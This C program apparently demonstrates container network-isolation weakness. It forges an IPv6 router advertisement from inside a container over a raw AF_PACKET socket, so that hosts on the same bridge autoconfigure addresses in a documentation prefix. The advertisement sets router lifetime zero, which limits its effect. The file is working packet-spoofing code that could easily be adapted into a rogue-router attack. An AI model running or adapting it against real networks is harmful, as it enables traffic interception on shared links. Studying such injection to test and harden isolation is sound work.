/* A forged IPv6 router advertisement, sent from inside a container.
 *
 * Usage: ra [IFACE]   (eth0 by default)
 *
 * Builds the whole Ethernet frame by hand and sends it through an
 * AF_PACKET socket (CAP_NET_RAW, in the default capability set): the
 * container needs no IPv6 of its own to send it. The advertisement carries
 * one prefix, 2001:db8:77::/64, on-link and autonomous: any interface on
 * the same bridge that accepts router advertisements gives itself an
 * address in it (SLAAC). Router lifetime 0: it never offers itself as a
 * default router, so a host that does accept it keeps its own routes.
 *
 * Prints "sent N" and exits 0, or names the call that failed and exits 1.
 */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

#define RA_LEN 16     /* type, code, checksum, hop limit, flags, lifetime, reachable, retrans */
#define PREFIX_LEN 32 /* the prefix information option */
#define PAYLOAD_LEN (RA_LEN + PREFIX_LEN)

static void put16(uint8_t *p, uint16_t v) { p[0] = v >> 8; p[1] = v & 0xff; }
static void put32(uint8_t *p, uint32_t v) { put16(p, v >> 16); put16(p + 2, v & 0xffff); }

/* The ICMPv6 checksum: over the pseudo-header (source, destination,
 * upper-layer length, next header) and the ICMPv6 message. */
static uint16_t icmp6_checksum(const uint8_t *src, const uint8_t *dst, const uint8_t *msg, size_t len)
{
    uint32_t sum = 0;
    size_t i;
    for (i = 0; i < 16; i += 2)
        sum += (src[i] << 8 | src[i + 1]) + (dst[i] << 8 | dst[i + 1]);
    sum += (uint32_t)len >> 16;
    sum += (uint32_t)len & 0xffff;
    sum += 58; /* next header: ICMPv6 */
    for (i = 0; i + 1 < len; i += 2)
        sum += msg[i] << 8 | msg[i + 1];
    if (len & 1)
        sum += msg[len - 1] << 8;
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t)~sum;
}

int main(int argc, char **argv)
{
    const char *ifname = argc > 1 ? argv[1] : "eth0";
    uint8_t frame[14 + 40 + PAYLOAD_LEN];
    uint8_t *eth = frame, *ip6 = frame + 14, *ra = frame + 14 + 40, *opt = ra + RA_LEN;
    uint8_t src[16] = {0xfe, 0x80}, dst[16] = {0xff, 0x02, [15] = 0x01};
    uint8_t prefix[16] = {0x20, 0x01, 0x0d, 0xb8, 0x00, 0x77};
    uint8_t mac[6];
    struct ifreq ifr;
    struct sockaddr_ll to;
    int fd, i, sent = 0;

    fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IPV6));
    if (fd < 0) {
        perror("socket(AF_PACKET)");
        return 1;
    }
    memset(&ifr, 0, sizeof ifr);
    strncpy(ifr.ifr_name, ifname, IFNAMSIZ - 1);
    if (ioctl(fd, SIOCGIFINDEX, &ifr) < 0) {
        perror("ioctl(SIOCGIFINDEX)");
        return 1;
    }
    { /* its own ifreq: the index and the address share a union */
        struct ifreq hw;
        memset(&hw, 0, sizeof hw);
        strncpy(hw.ifr_name, ifname, IFNAMSIZ - 1);
        if (ioctl(fd, SIOCGIFHWADDR, &hw) < 0) {
            perror("ioctl(SIOCGIFHWADDR)");
            return 1;
        }
        memcpy(mac, hw.ifr_hwaddr.sa_data, 6);
    }
    /* A link-local source made from the MAC (modified EUI-64), as a router's. */
    src[8] = mac[0] ^ 0x02; src[9] = mac[1]; src[10] = mac[2]; src[11] = 0xff;
    src[12] = 0xfe; src[13] = mac[3]; src[14] = mac[4]; src[15] = mac[5];

    memset(frame, 0, sizeof frame);
    uint8_t all_nodes_mac[6] = {0x33, 0x33, 0, 0, 0, 1};
    memcpy(eth, all_nodes_mac, 6);
    memcpy(eth + 6, mac, 6);
    put16(eth + 12, ETH_P_IPV6);

    ip6[0] = 0x60;
    put16(ip6 + 4, PAYLOAD_LEN);
    ip6[6] = 58;   /* ICMPv6 */
    ip6[7] = 255;  /* hop limit: a receiver ignores an RA with any other */
    memcpy(ip6 + 8, src, 16);
    memcpy(ip6 + 24, dst, 16);

    ra[0] = 134;   /* router advertisement */
    ra[4] = 64;    /* current hop limit */
    put16(ra + 6, 0); /* router lifetime: not a default router */

    opt[0] = 3;    /* prefix information */
    opt[1] = 4;    /* length in units of 8 bytes */
    opt[2] = 64;   /* prefix length */
    opt[3] = 0xc0; /* on-link, autonomous */
    put32(opt + 4, 600);  /* valid lifetime */
    put32(opt + 8, 600);  /* preferred lifetime */
    memcpy(opt + 16, prefix, 16);

    put16(ra + 2, icmp6_checksum(src, dst, ra, PAYLOAD_LEN));

    memset(&to, 0, sizeof to);
    to.sll_family = AF_PACKET;
    to.sll_protocol = htons(ETH_P_IPV6);
    to.sll_ifindex = ifr.ifr_ifindex;
    to.sll_halen = 6;
    memcpy(to.sll_addr, all_nodes_mac, 6);
    for (i = 0; i < 3; i++) {
        if (sendto(fd, frame, sizeof frame, 0, (struct sockaddr *)&to, sizeof to) == (ssize_t)sizeof frame)
            sent++;
        else
            perror("sendto");
        usleep(200000);
    }
    printf("sent %d\n", sent);
    return sent ? 0 : 1;
}
